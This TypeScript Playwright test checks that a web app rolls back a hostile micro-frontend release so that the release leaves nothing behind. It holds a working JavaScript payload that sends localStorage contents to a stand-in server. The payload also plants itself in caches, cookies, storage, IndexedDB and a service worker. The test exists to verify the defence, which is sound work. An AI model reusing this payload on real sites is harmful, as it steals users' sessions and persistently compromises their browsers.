import { randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { approveClaims } from '../../support/approve-claims.ts';
import { publishSmallRelease } from '../../support/small-remote.ts';
import { expect, test } from '../../support/test.ts';

test.use({ as: 'admin', serviceWorkers: 'allow' });

/** What every page that the remote leaves behind does: it sends the session to another site. */
const steal = (elsewhere: string) =>
  `document.title='TAKEN';new Image().src='${elsewhere}/?'+encodeURIComponent(JSON.stringify({...localStorage}));`;

/** Everything on this origin that can outlive the page. Runs once, and then says so in the page's title. */
const hostileCode = (elsewhere: string, name: string) => `
  if(!globalThis.hasTried){globalThis.hasTried=true;(async()=>{
    const code=${JSON.stringify(steal(elsewhere))};
    const page=()=>new Response('<!doctype html><title>TAKEN</title><script>'+code+'</'+'script>',{headers:{'content-type':'text/html'}});
    const script=()=>new Response(code,{headers:{'content-type':'text/javascript'}});
    await caches.open('evil').then((cache)=>cache.put('/',page()));
    for(const cacheName of await caches.keys()){
      const cache=await caches.open(cacheName);
      for(const {url} of await cache.keys())await cache.put(url,/\\.js$/.test(url)?script():page());
    }
    const registry=await (await fetch('/remotes.json')).text();
    localStorage.setItem('kickabout.registry',registry);
    localStorage.setItem('evil',code);
    sessionStorage.setItem('kickabout.overrides',JSON.stringify({'${name}':'r2'}));
    document.cookie='evil=1;path=/;max-age=9999999';
    history.replaceState({usr:{evil:code}},'',location.href);
    new BroadcastChannel('evil').postMessage(code);
    await new Promise((done)=>{const open=indexedDB.open('evil');open.onupgradeneeded=()=>open.result.createObjectStore('a');open.onsuccess=open.onerror=()=>{open.result.close();done()}});
    await navigator.serviceWorker.register('/remotes/${name}/r2/remote-entry.js',{updateViaCache:'all'}).catch(()=>{});
    await fetch('${elsewhere}/?direct').catch(()=>{});
    document.body.dataset.tried='all';
  })().catch((error)=>{document.body.dataset.tried=String(error)})}`;

test('what a hostile release leaves in a browser never runs after it was taken back, and nothing leaves', async ({
  page,
  context,
  browse,
  request,
  admin,
  watch,
}) => {
  const arrived: string[] = [];
  const elsewhere = createServer((asked, response) => {
    arrived.push(asked.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  const site = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  const name = `mf-evil-${randomBytes(3).toString('hex')}`;
  const path = `/${name}`;
  watch.expect(
    /Content.Security.Policy|Refused to|violates|ERR_|403|404|worker|remotes could not be read|Failed|offline/i,
  );
  try {
    const { key } = await admin.call('createPublishKey', {
      params: { name },
      body: { holder: 'Eve', days: 1 },
    });
    const release = { name, path, text: 'Harmless' };
    await publishSmallRelease(request, key, { ...release, release: 'r1' }, 'everyone');
    await approveClaims(admin, name);

    await page.goto('/');
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
    await expect
      .poll(() => page.evaluate(() => caches.keys()))
      .toContainEqual(expect.stringContaining('offline'));
    const evil = { ...release, release: 'r2', before: hostileCode(site, name) };
    const published = await publishSmallRelease(request, key, evil, 'everyone');
    expect(await published.json()).toMatchObject({ state: 'live' });
    await page.goto(path);
    await expect(page.locator('body[data-tried]')).toHaveAttribute('data-tried', 'all');

    await admin.call('rollBackRemote', { params: { name }, body: {} });
    await admin.call('setRemotePaused', { params: { name }, body: { is_paused: true } });

    // The same tab, and another one, without a network.
    await context.setOffline(true);
    for (const address of ['/', path]) await expectHarmless(await context.newPage(), address);
    await expectHarmless(page, '/matches');
    await context.setOffline(false);

    // Online again, without the list of what is live, and then with it.
    await context.route('**/remotes.json', (route) => route.abort());
    await expectHarmless(page, path);
    await context.unroute('**/remotes.json');
    await expectHarmless(page, path);
    await page.goto('/rules');
    const left = () =>
      page.evaluate(async () => ({
        caches: (await caches.keys()).filter((one) => one === 'evil'),
        storage: localStorage.getItem('evil'),
        overrides: sessionStorage.getItem('kickabout.overrides'),
        databases: (await indexedDB.databases()).map((one) => one.name),
        workers: (await navigator.serviceWorker.getRegistrations()).map(
          ({ scope }) => new URL(scope).pathname,
        ),
      }));
    await expect
      .poll(left, { timeout: 20_000 })
      .toEqual({ caches: [], storage: null, overrides: null, databases: [], workers: ['/'] });
    await expectHarmless(page, `${path}?override=${name}@r2`);
    await expectHarmless(await browse('admin'), path);
    expect(arrived).toEqual([]);
  } finally {
    elsewhere.close();
  }
});

async function expectHarmless(page: Page, address: string): Promise<void> {
  await page.goto(address).catch(() => {});
  await page.waitForTimeout(1000);
  expect(await page.title()).not.toBe('TAKEN');
  expect(await page.evaluate(() => 'hasTried' in globalThis).catch(() => false)).toBe(false);
}
